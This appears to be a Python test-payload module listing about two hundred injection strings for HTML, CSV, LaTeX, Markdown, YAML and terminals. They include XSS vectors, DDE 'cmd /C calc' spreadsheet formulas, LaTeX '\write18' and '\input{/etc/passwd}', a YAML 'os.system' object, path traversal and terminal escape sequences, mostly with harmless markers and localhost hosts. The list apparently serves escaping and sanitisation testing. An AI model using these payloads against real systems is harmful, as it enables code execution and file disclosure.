"""Two hundred texts that do something where they are not mere text: in HTML, CSV, LaTeX, Markdown, YAML, a terminal."""

_SAY = "window.live=1"
_HTML = [
    *(f"<{tag} {event}={_SAY}>" for tag in ("img src=x", "svg", "body", "video src=x", "details open", "iframe",
                                             "input autofocus", "marquee", "audio src=x", "object data=x")
      for event in ("onerror", "onload", "onfocus", "ontoggle")),
    f"<script>{_SAY}</script>", f"</script><script>{_SAY}</script>", f"</td></tr></table><script>{_SAY}</script>",
    f"\"><script>{_SAY}</script>", f"'><img src=x onerror={_SAY}>", f"\" onmouseover={_SAY} x=\"",
    f"' autofocus onfocus={_SAY} x='", f"javascript:{_SAY}", f"<a href=javascript:{_SAY}>x</a>",
    f"<a href='data:text/html,<script>{_SAY}</script>'>x</a>", f"<iframe srcdoc='<script>{_SAY}</script>'>",
    "<link rel=stylesheet href=//127.0.0.1/x.css>", "<base href=//127.0.0.1/>", "<!--", "-->", "]]>",
    "<meta http-equiv=refresh content=0;x>", "<style>@import '//127.0.0.1/x'</style>", "<![CDATA[",
    f"</style><script>{_SAY}</script>",
    f"<!--><script>{_SAY}</script>", f"<math><mtext><script>{_SAY}</script>", f"<svg><script>{_SAY}</script></svg>",
    f"<svg><a href=javascript:{_SAY}>x</a></svg>", "<form action=//127.0.0.1><button>x</form>",
    "<object data=//127.0.0.1/x>", "<embed src=//127.0.0.1/x>", f"&lt;script&gt;{_SAY}&lt;/script&gt;",
    f"&#60;script&#62;{_SAY}&#60;/script&#62;", f"\\u003cscript\\u003e{_SAY}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{_SAY}')()}}}}", "{{ 7*7 }}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "__proto__", "constructor", "toString", "reports/../../etc/passwd", "../../../etc/passwd",
]
_CSV = [
    *(f"{start}cmd|' /C calc'!A0" for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\uff1d", "%",
                                                "\uff0b", "\uff0d", "\uff20", "'=", "''=", "\ufeff=", "\u200b=", "|")),
    "=HYPERLINK(\"//127.0.0.1\",\"x\")", "=1+1", "+1", "-1", "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "=A1\",\"=B1",
    "x\n=1+1", "x\r\n=1+1", "x\",=1+1,\"", "x;=1+1", "\"=1+1\"", "'", "''", ",", "\"", "\"\"", "=", "-",
    "DDE(\"cmd\")", "=IMPORTXML(\"//127.0.0.1\",\"//a\")", "=WEBSERVICE(\"//127.0.0.1\")",
]
_LATEX = [
    r"\input{/etc/passwd}", r"\write18{id}", r"\immediate\write18{id}", r"\include{x}", r"\openout1=x",
    r"\def\x{\x}\x", r"\end{tabular}\input{x}", r"\\", r"\\[9cm]", r"*x", "[9cm]", "[x]", "&", "& & &", "%", "% x",
    "#1", "$x$", "$$", "^^5cinput{x}", "^^5c", "~", "_", "a_b^c", "{", "}", "{{{", "}}}", "\\", "\\\n",
    "\\catcode`\\%=0",
    r"\csname input\endcsname", r"\verb|x|", r"\hline", r"\bottomrule", "|", "\"a", "`", "''", "--", "<<", "\\par",
]
_MARKDOWN = [
    "[x](javascript:window.live=1)", "![x](//127.0.0.1/x)", "[x]: //127.0.0.1", "https://127.0.0.1/x",
    "www.example.org",
    "<https://127.0.0.1>", "`x`", "```", "**x**", "__x__", "~~x~~", "| x |", "\\|", "x|y", "# x", "- x", "1. x", "> x",
    "---", "$x$", "@someone", "#1", "[^1]", "&amp;", "\\", "*",
]
_YAML = ["!!python/object/apply:os.system ['id']", "&a [*a]", "*a", "x: y", "- x", "? x", "%YAML 1.1", "---", "..."]
_TERMINAL = [
    "\x1b[2J", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://127.0.0.1\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;aWQ=\x07",
    "\x1bP+q\x1b\\", "\x9b2J", "\x9d0;x\x07", "\x07", "\x08\x08", "x\rhidden", "\x0b", "\x0c", "\x00", "\x7f", "\x85",
    "\u202ereversed", "\u2066x\u2069", "\u200b", "\u2028x", "\u2029x", "\x1b[6n", "\x1b[?1049h", "\x1bc",
    "[bold]x[/bold]",
]
PAYLOADS = list(dict.fromkeys([*_HTML, *_CSV, *_LATEX, *_MARKDOWN, *_YAML, *_TERMINAL]))
